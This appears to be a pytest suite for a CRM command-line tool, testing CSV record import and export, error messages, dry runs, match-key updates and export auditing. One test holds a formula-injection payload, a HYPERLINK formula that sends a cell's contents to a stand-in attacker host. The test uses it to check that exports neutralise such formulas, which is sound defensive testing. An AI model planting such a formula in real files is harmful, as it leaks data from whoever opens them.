"""`metacrm records import` / `records export`, run as real processes on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from decimal import Decimal
import sys
from pathlib import Path

import pytest

from tests.test_cli import cli

ROOT = Path(__file__).resolve().parent.parent

CONTACT = """\
name: contact
fields:
  - {name: last_name, type: text, required: true, label: {en: Last Name, zh-CN: 姓}}
  - {name: email, type: email, label: {en: Email, zh-CN: 邮箱}}
  - {name: budget, type: decimal, precision: 18, scale: 2, label: {en: Budget, zh-CN: 预算}}
  - {name: stage, type: picklist, options: [new, won], label: {en: Stage, zh-CN: 阶段}}
  - {name: notes, type: text}
"""


@pytest.fixture
def project(tmp_path, db_url):
    folder = tmp_path / "meta"
    folder.mkdir()
    (folder / "contact.yaml").write_text(CONTACT)
    result = cli(db_url, "apply", str(folder))
    assert result.returncode == 0, result.stderr
    return tmp_path


def rows(db_url: str, *args: str) -> list[dict]:
    out = cli(db_url, "records", "list", "contact", "--sort", "last_name", "--limit", "100", *args)
    assert out.returncode == 0, out.stderr
    found = [json.loads(line, parse_float=Decimal) for line in out.stdout.splitlines()]
    for record in found:  # the JSON output writes a decimal as a number, or as a string when long
        record["budget"] = None if record["budget"] is None else Decimal(str(record["budget"]))
    return found


def write(folder: Path, name: str, text: str) -> str:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return str(path)


GOOD_AND_BAD = ("姓,Email,预算,阶段\n"
                "Li,li@example.com,1234567890123456.78,new\n"
                "Bad,bad@example.com,12,lost\n"
                "Wang,wang@example.com,0.10,won\n")


def test_import_by_labels_reports_bad_row_by_line(project, db_url):
    path = write(project, "in.csv", GOOD_AND_BAD)
    result = cli(db_url, "records", "import", "contact", path)
    assert result.returncode == 1, result.stderr
    assert "created 2, updated 0, 1 row(s) failed" in result.stdout
    assert "line 3:" in result.stderr and "'lost'" in result.stderr and "Traceback" not in result.stderr
    stored = rows(db_url)
    assert [(r["last_name"], r["email"], r["budget"], r["stage"]) for r in stored] == [
        ("Li", "li@example.com", Decimal("1234567890123456.78"), "new"),
        ("Wang", "wang@example.com", Decimal("0.10"), "won")]


def test_dry_run_writes_nothing_but_reports_the_same(project, db_url):
    path = write(project, "in.csv", GOOD_AND_BAD)
    result = cli(db_url, "records", "import", "contact", path, "--dry-run")
    assert result.returncode == 1
    assert "would create 2" in result.stdout and "nothing written" in result.stdout
    assert "line 3:" in result.stderr
    assert rows(db_url) == []
    clean = cli(db_url, "records", "import", "contact", write(project, "ok.csv", "last_name\nZhao\n"), "--dry-run")
    assert clean.returncode == 0 and rows(db_url) == []


def test_match_key_updates_instead_of_creating(project, db_url):
    first = cli(db_url, "records", "import", "contact", write(project, "a.csv", "last_name,email,budget\n"
                                                              "Li,li@example.com,1.00\n"))
    assert first.returncode == 0, first.stderr
    (li,) = rows(db_url)
    second = cli(db_url, "records", "import", "contact",
                 write(project, "b.csv", "Mail,Amount,Surname\nli@example.com,2.50,Li\nnew@example.com,3,New\n"),
                 "--mapping", '{"Mail": "email", "Amount": "budget", "Surname": "last_name"}', "--match", "email")
    assert second.returncode == 0, second.stderr
    assert "created 1, updated 1, 0 row(s) failed" in second.stdout
    stored = {r["email"]: r for r in rows(db_url)}
    assert stored["li@example.com"]["id"] == li["id"] and stored["li@example.com"]["budget"] == Decimal("2.50")
    assert stored["li@example.com"]["version"] == 2 and stored["new@example.com"]["last_name"] == "New"


def test_export_round_trips_import_and_guards_formulas(project, db_url):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(["last_name", "email", "budget", "notes"])
    writer.writerow(["Li", "li@example.com", "1234567890123456.78", hostile])
    writer.writerow(["Wang", "", "0.10", "plain"])
    assert cli(db_url, "records", "import", "contact", write(project, "in.csv", source.getvalue())).returncode == 0
    out = cli(db_url, "records", "export", "contact", "--fields", "last_name,email,budget,notes", "--sort", "last_name")
    assert out.returncode == 0, out.stderr
    exported = list(csv.reader(io.StringIO(out.stdout, newline="")))
    assert exported[0] == ["id", "last_name", "email", "budget", "notes"]
    assert [row[1:] for row in exported[1:]] == [
        ["Li", "li@example.com", "1234567890123456.78", "'" + hostile],  # a spreadsheet shows it as text
        ["Wang", "", "0.10", "plain"]]
    # the export file imports back (matched by id) with nothing changed: the guard is undone on import
    target = project / "out.csv"
    filtered = cli(db_url, "records", "export", "contact", "--filter", "budget>1", "--fields", "notes,budget",
                   "-o", str(target))
    assert filtered.returncode == 0 and filtered.stdout == ""
    assert list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))[1][1:] == [
        "'" + hostile, "1234567890123456.78"]
    back = cli(db_url, "records", "import", "contact", str(target), "--match", "id")
    assert back.returncode == 0 and "updated 1" in back.stdout, back.stderr
    assert rows(db_url, "--filter", "last_name=Li")[0]["notes"] == hostile


@pytest.mark.parametrize("args, words", [
    (("import", "nothing", "{csv}"), "unknown object 'nothing'"),
    (("import", "contact", "missing.csv"), "cannot read missing.csv"),
    (("import", "contact", "{csv}", "--mapping", "{bad"), "mapping is not valid JSON"),
    (("import", "contact", "{csv}", "--match", "salary"), "match: 'salary' is not a field of contact"),
    (("import", "contact", "{latin}"), "not UTF-8"),
    (("export", "contact", "--fields", "salary"), "salary"),
    (("export", "contact", "--filter", "budget:zz=1"), "unknown operator"),
    (("export", "contact", "--where", "{bad"), "--where is not valid JSON"),
])
def test_refusals_are_clean_messages(project, db_url, args, words):
    good = write(project, "good.csv", "last_name\nLi\n")
    latin = project / "latin.csv"
    latin.write_bytes("last_name\nM\xfcller\n".encode("latin-1"))
    files = {"{csv}": good, "{latin}": str(latin)}
    result = cli(db_url, "records", *(files.get(a, a) for a in args))
    assert result.returncode in (1, 2) and words in result.stderr, result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""
    assert rows(db_url) == []


def test_export_is_audited_and_cut_short_pipe_is_quiet(project, db_url):
    import sqlalchemy as sa

    from metacrm.engine.identity.audit import audit_log

    many = "last_name\n" + "".join(f"N{i}\n" for i in range(2500))
    assert cli(db_url, "records", "import", "contact", write(project, "many.csv", many)).returncode == 0
    piped = subprocess.run(f'"{sys.executable}" -m metacrm.engine.cli.main --database "{db_url}" '
                           "records export contact | head -1", shell=True, capture_output=True, text=True,
                           cwd=ROOT, timeout=120)
    assert piped.stdout.startswith("id,last_name") and "Traceback" not in piped.stderr, piped.stderr
    assert "error" not in piped.stderr
    assert cli(db_url, "records", "export", "contact", "--filter", "last_name=N7", "-o",
               str(project / "one.csv")).returncode == 0
    engine = sa.create_engine(db_url)
    try:
        with engine.connect() as conn:
            details = [json.loads(d) if isinstance(d, str) else d for d in conn.execute(
                sa.select(audit_log.c.detail).where(audit_log.c.event == "export").order_by(audit_log.c.id)).scalars()]
    finally:
        engine.dispose()
    assert [(d["rows"], d["complete"]) for d in details][-1] == (1, True)
    assert details[0]["complete"] is False and details[0]["filter"] is None
